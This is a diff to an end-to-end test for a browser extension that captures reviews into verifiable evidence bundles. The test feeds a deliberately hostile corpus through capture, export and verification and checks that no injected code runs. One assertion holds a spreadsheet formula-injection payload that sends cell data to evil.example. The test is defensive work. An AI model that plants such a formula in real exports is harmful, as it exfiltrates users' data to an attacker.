@@ -17,7 +17,6 @@ import { exportFromManager, startBundleHarness, type BundleHarness } from './bun
 import { artefactBytes, dumpStore } from './capture-helpers';
 import type { ReviewFields } from '../../src/shared/types';
 import { CORPUS, corpusExpected } from '../fixtures/pages/hostile/corpus';
-import { verifyBundle } from '../../src/evidence/verify/verify';
 
 const expected = (JSON.parse(readFileSync(new URL('../fixtures/pages/hostile/expected.json', import.meta.url), 'utf8')) as ReviewFields[])[0];
 
@@ -201,11 +200,8 @@ describe('the hostile corpus (32 reviews) through capture, case manager, export,
     const zipPath = await exportFromManager(h, caseId);
     const exportMs = Date.now() - tExport;
     const zipBytes = new Uint8Array(readFileSync(zipPath));
-    const tVerify = Date.now();
-    const result = await verifyBundle(zipBytes);
-    const verifyMs = Date.now() - tVerify;
-    expect(result.firstFailure).toBeUndefined();
-    expect(result.ok).toBe(true);
+    // The bundle is verified by its own verify.html below (the Node verifier runs on the same corpus in
+    // test/unit/hostile-corpus.test.ts).
     const dir = mkdtempSync(join(tmpdir(), 'avise-hostile-bundle-'));
     const zip = await JSZip.loadAsync(zipBytes);
     for (const f of Object.values(zip.files)) {
@@ -227,13 +223,17 @@ describe('the hostile corpus (32 reviews) through capture, case manager, export,
       expect(badLinks(await links(p), h.extensionId), file).toEqual([]);
       if (file.endsWith('rapport-de-capture.html')) {
         const body = (await p.$eval('body', (b) => b.textContent)) ?? '';
-        for (const r of expected.slice(0, 12)) expect(body, r.id).toContain(r.text);
+        // Every review's text as stored, but U+0000 and lone surrogates, which an HTML file cannot hold, shown as U+FFFD.
+        const shown = (x: string) => x.replaceAll('\u0000', '\uFFFD').replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
+        for (const r of expected) expect(body.includes(shown(r.text)), r.id).toBe(true);
+        expect(body).toContain('U+0000 CONTROL CHARACTER');
+        expect(body).toContain('U+D83D LONE SURROGATE');
       }
       if (file === '/verify.html') {
         const input = await p.$('#file');
         await (input as unknown as { uploadFile(f: string): Promise<void> }).uploadFile(zipPath);
         await p.waitForFunction(() => /^[✓✗]/.test(document.getElementById('summary')?.textContent ?? ''), { timeout: 60_000 });
-        expect(await p.$eval('#summary', (e) => e.textContent)).toMatch(/^✓/);
+        expect(await p.$eval('#summary', (e) => e.textContent)).toMatch(/^✓/); // every seal, the chain, every file
         expect(badLinks(await links(p), h.extensionId), 'verify.html after the verification').toEqual([]);
       }
       pageMs.push(`${file} ${Date.now() - tPage} ms`);
@@ -245,7 +245,7 @@ describe('the hostile corpus (32 reviews) through capture, case manager, export,
     expect(pdfText).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Voir le dossier")');
     expect(pdfText).toContain('¤');
 
-    console.log(`hostile corpus: ${CORPUS.length} reviews captured in ${seriesMs} ms, exported in ${exportMs} ms (${zipBytes.length} bytes), verified in Node in ${verifyMs} ms; pages opened from the bundle in ${Date.now() - tPages} ms (${pageMs.join(', ')})`);
+    console.log(`hostile corpus: ${CORPUS.length} reviews captured in ${seriesMs} ms, exported in ${exportMs} ms (${zipBytes.length} bytes); pages opened from the bundle in ${Date.now() - tPages} ms (${pageMs.join(', ')})`);
     await new Promise((r) => setTimeout(r, 300)); // let any late handler run
     for (const p of [page, series, manager, list, ...opened2]) {
       expect(await pwned(p), p.url()).toEqual([]);
